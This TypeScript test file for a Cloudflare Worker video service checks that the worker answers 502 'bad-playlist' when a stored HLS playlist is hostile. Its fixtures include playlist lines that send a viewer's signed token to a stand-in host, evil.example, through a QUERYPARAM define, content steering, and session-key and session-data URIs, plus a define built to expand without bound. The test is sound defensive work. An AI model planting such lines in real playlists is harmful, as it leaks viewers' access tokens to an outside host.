import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { ALL_STRATEGIES, BUCKET, publishConfig } from '../test/admin.ts';
import { resetKv } from '../test/bindings.ts';
import { tokenFor } from '../test/tokens.ts';
import { masterUrl, uniqueVideoId } from '../test/video.ts';
import { testWorker } from '../test/worker.ts';

// A stored playlist is data, and data can be hostile (an owner's bucket shared with another
// tool, a bad import). Whatever it says, the worker's answer never sends the visitor's token
// or a URI of this worker to another host, and never expands without bound: 502
// bad-playlist instead, for this request only.

const master = (lines: string[]) => ['#EXTM3U', ...lines, ''].join('\n');
const HOSTILE: [string, string][] = [
  [
    'a QUERYPARAM define that copies the token to another host',
    master([
      '#EXT-X-DEFINE:QUERYPARAM="sig"',
      '#EXT-X-STREAM-INF:BANDWIDTH=1',
      'https://evil.example/{$sig}/index.m3u8',
    ]),
  ],
  [
    'content steering (pathway cloning moves worker URIs, tokens included, to its host)',
    master([
      '#EXT-X-CONTENT-STEERING:SERVER-URI="https://evil.example/steer.json",PATHWAY-ID="a"',
      '#EXT-X-STREAM-INF:BANDWIDTH=1,PATHWAY-ID="a"',
      '540p/index.m3u8',
    ]),
  ],
  [
    'an absolute variant URI on another host',
    master(['#EXT-X-STREAM-INF:BANDWIDTH=1', 'https://evil.example/540p/index.m3u8']),
  ],
  [
    'a session key on another host',
    master([
      '#EXT-X-SESSION-KEY:METHOD=AES-128,URI="//evil.example/key"',
      '#EXT-X-STREAM-INF:BANDWIDTH=1',
      '540p/index.m3u8',
    ]),
  ],
  [
    'session data on another host',
    master([
      '#EXT-X-SESSION-DATA:DATA-ID="com.example",URI="https://evil.example/data.json"',
      '#EXT-X-STREAM-INF:BANDWIDTH=1',
      '540p/index.m3u8',
    ]),
  ],
  [
    'a define expanding past the bound',
    master([
      `#EXT-X-DEFINE:NAME="v",VALUE="${'v'.repeat(100_000)}"`,
      ...Array.from({ length: 50 }, (_, i) => `#EXT-X-STREAM-INF:BANDWIDTH=1\n{$v}${i}.m3u8`),
    ]),
  ],
];

beforeAll(async () => {
  await resetKv();
  await publishConfig(testWorker(), ALL_STRATEGIES);
});

describe('hostile stored playlists', () => {
  for (const strategy of Object.keys(BUCKET) as (keyof typeof BUCKET)[]) {
    it.each(HOSTILE)(`answers 502 bad-playlist under ${strategy} for %s`, async (_name, text) => {
      const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
      const video = uniqueVideoId('hostile');
      await env.MEDIA.put(`hls/${video}/master.m3u8`, text);
      const worker = testWorker();
      const response = await worker.fetch(
        masterUrl(video, tokenFor(video, { bucket: BUCKET[strategy] })),
      );
      expect(response.status).toBe(502);
      expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
      expect(await response.json()).toEqual({ error: 'bad-playlist' });
      expect(worker.isolate.templates.size).toBe(0);
      // The log names the reason, never the token.
      expect(warn.mock.calls.flat().join(' ')).not.toMatch(/sig=/);
    });
  }
});
